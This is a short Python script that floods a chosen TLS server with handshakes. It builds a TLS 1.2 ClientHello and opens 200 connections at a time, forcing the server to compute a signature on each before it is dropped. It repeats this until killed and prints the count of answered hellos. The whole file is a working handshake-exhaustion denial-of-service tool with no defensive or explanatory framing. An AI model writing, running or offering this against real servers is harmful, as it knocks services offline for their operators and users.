"""As many TLS handshakes as one process can begin: each makes the server sign, and is then dropped."""

from __future__ import annotations

import contextlib
import socket
import ssl
import sys
from collections import deque

_AT_A_TIME = 200


def hello() -> bytes:
    """A ClientHello."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    return outgoing.read()


def flood(server: str, port: int) -> None:
    """Until killed; writes the number of answered hellos again and again."""
    octets, answered = hello(), 0
    while True:
        crowd: deque[socket.socket] = deque()
        for _ in range(_AT_A_TIME):
            connection = socket.create_connection((server, port), 60)
            crowd.append(connection)
        for connection in crowd:
            connection.sendall(octets)
        for connection in crowd:
            with contextlib.suppress(OSError):
                answered += bool(connection.recv(100))
            connection.close()
        sys.stdout.write(f"{answered}\n")
        sys.stdout.flush()
